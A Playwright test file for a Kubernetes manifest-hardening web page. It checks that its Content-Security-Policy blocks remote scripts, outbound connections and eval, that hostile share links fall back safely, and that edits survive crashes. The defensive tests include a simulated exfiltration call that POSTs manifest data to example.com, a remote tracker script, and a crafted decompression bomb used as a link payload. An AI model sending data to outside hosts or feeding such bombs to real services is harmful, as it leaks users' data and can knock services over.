/** Issue 6 in the browser: the Content-Security-Policy, hostile links, and never losing work. */
import { deflateRawSync } from 'node:zlib';
import { CRASH_TEST_LINE, expect, pastedDeployment, test } from './fixtures';

const DEPLOYMENT = pastedDeployment(['web']);

function base64Url(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('base64url');
}

test.describe('the Content-Security-Policy', () => {
  test('is set, forbids remote scripts, connections and eval', async ({ hardener }) => {
    await hardener.open();
    const policy = (await hardener.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
    const directives = new Map(
      policy.split(';').map((part) => {
        const [name = '', ...values] = part.trim().split(/\s+/);
        return [name, values] as const;
      }),
    );
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'"]);
    expect(policy).not.toContain('unsafe-eval');

    const outcome = await hardener.page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
      const fetched = await fetch('https://example.com/collect', { method: 'POST', body: 'manifest' }).then(
        () => 'sent',
        () => 'blocked',
      );
      const script = document.createElement('script');
      script.src = 'https://example.com/tracker.js';
      const loaded = await new Promise<string>((resolve) => {
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('blocked');
        document.head.append(script);
      });
      let evaluated = 'ran';
      try {
        new Function('return 1')();
      } catch {
        evaluated = 'blocked';
      }
      // Violation events are dispatched in a task of their own.
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { fetched, loaded, evaluated, violations };
    });
    expect(outcome.fetched).toBe('blocked');
    expect(outcome.loaded).toBe('blocked');
    expect(outcome.evaluated).toBe('blocked');
    expect(outcome.violations).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^connect-src https:\/\/example\.com/),
        expect.stringMatching(/^script-src-elem https:\/\/example\.com/),
      ]),
    );
  });

  test("lets Monaco's workers run: the editor shows the schema's validation markers", async ({ hardener }) => {
    const violations: string[] = [];
    hardener.page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    await hardener.open();
    await hardener.pasteManifest(DEPLOYMENT.replace('spec:\n  selector:', 'spec:\n  replicas: many\n  selector:'));
    await expect(hardener.output).toContainText('name: pasted-web');
    // Only the YAML worker's schema check knows `replicas` must be a number: the core does not care.
    await hardener.showProblem(/replicas: many, (Error|Warning) at \d+:\d+\./, /Incorrect type\. Expected "number"/);
    expect(violations).toEqual([]);
  });
});

test.describe('hostile links', () => {
  const cases: Record<string, string> = {
    'a newer format': '#v=99&s=AAAA',
    'a broken version': '#v=1x&s=AAAA',
    'garbage data': '#v=1&s=%%%$$$',
    'random bytes': `#v=1&s=${base64Url(Uint8Array.from({ length: 300 }, (_, index) => (index * 7919) % 256))}`,
    'compressed garbage': `#v=1&s=${base64Url(deflateRawSync(Buffer.from('\u0000\u00ff not json at all {{{')))}`,
    'compressed JSON of the wrong shape': `#v=1&s=${base64Url(deflateRawSync(Buffer.from(JSON.stringify({ m: 42, o: [] }))))}`,
    'a decompression bomb': `#v=1&s=${base64Url(deflateRawSync(Buffer.alloc(32 * 1024 * 1024)))}`,
    'a huge fragment': `#v=1&s=${'A'.repeat(1_500_000)}`,
  };
  for (const [name, fragment] of Object.entries(cases)) {
    test(`${name} opens the default example with a notice`, async ({ hardener }) => {
      const errors: string[] = [];
      hardener.page.on('pageerror', (error) => errors.push(error.message));
      await hardener.open(fragment);
      await expect(hardener.page.getByRole('alert').filter({ hasText: /link/i })).toBeVisible();
      await expect(hardener.output).toContainText('name: foo-pod');
      await expect(hardener.output).toContainText('automountServiceAccountToken: false');
      await expect(hardener.page.getByRole('heading', { name: 'sa-token-hardener' })).toBeVisible();
      expect(errors).toEqual([]);
    });
  }
});

test.describe('the page never loses work', () => {
  test('when the hardening worker dies: says so, keeps the text, and restarts', async ({ hardener }) => {
    await hardener.open('?crash-test');
    await expect(hardener.output).toContainText('name: foo-pod');
    const before = await hardener.outputText();
    await hardener.pasteManifest(`${CRASH_TEST_LINE}\n${DEPLOYMENT}`);
    const alert = hardener.page.getByRole('alert').filter({ hasText: /Hardening stopped working/ });
    await expect(alert).toBeVisible();
    await expect(hardener.page.getByText(/Hardening is stopped: this is the output of the last input/)).toBeVisible();
    expect(await hardener.outputText()).toBe(before);
    expect(await hardener.inputText()).toBe(`${CRASH_TEST_LINE}\n${DEPLOYMENT}`);

    // Edits made while it is stopped are kept, and hardened once it runs again.
    await hardener.pasteManifest(DEPLOYMENT);
    await hardener.page.getByRole('button', { name: 'Restart hardening' }).click();
    await expect(alert).toHaveCount(0);
    await expect(hardener.output).toContainText('name: pasted-web');
    await expect(hardener.output).toContainText('automountServiceAccountToken: false');
  });

  test('the crash trigger is inert without ?crash-test', async ({ hardener }) => {
    await hardener.open();
    await hardener.pasteManifest(`${CRASH_TEST_LINE}\n${DEPLOYMENT}`);
    await expect(hardener.output).toContainText('name: pasted-web');
    await expect(hardener.page.getByRole('alert').filter({ hasText: /Hardening stopped working/ })).toHaveCount(0);
  });

  test('when the editor cannot load: a plain text area with the text, and the output still follows', async ({ hardener }) => {
    await hardener.page.route(/\/assets\/InputEditor-[^/]*\.js$/, (route) => route.abort());
    await hardener.open();
    const fallback = hardener.page.getByRole('textbox', { name: 'Input manifest', exact: true });
    await expect(hardener.page.getByRole('alert').filter({ hasText: /editor stopped working/ })).toBeVisible();
    await expect(fallback).toHaveValue(/name: foo-pod/);
    await fallback.fill(DEPLOYMENT);
    await expect(hardener.output).toContainText('name: pasted-web');
    await expect(hardener.output).toContainText('automountServiceAccountToken: false');
  });

  test('keeps no draft in storage', async ({ hardener }) => {
    await hardener.open();
    await hardener.pasteManifest(DEPLOYMENT);
    await expect(hardener.output).toContainText('name: pasted-web');
    const stored = await hardener.page.evaluate(() => ({ local: localStorage.length, session: sessionStorage.length }));
    expect(stored).toEqual({ local: 0, session: 0 });
  });
});
